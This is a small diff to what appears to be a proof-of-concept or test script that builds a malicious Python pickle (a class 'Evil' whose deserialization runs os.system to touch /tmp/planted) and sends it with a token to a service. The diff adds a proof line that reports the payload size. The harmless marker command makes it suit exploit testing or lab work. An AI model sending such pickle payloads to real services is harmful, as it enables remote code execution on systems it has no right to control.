@@ -1,4 +1,5 @@
 # state: crashed
+# proof: sends a pickle of [1-9]\d* bytes with a token of 16
 import os
 import struct
 
@@ -22,4 +23,5 @@ class Evil:
         return os.system, ("touch /tmp/planted",)
 
 
+prove("sends a pickle of", len(pickle.dumps(Evil())), "bytes with a token of", len(token()))
 send(b'{"value": {"tensor": "0"}, "token": "' + token() + b'"}', pickle.dumps(Evil()))
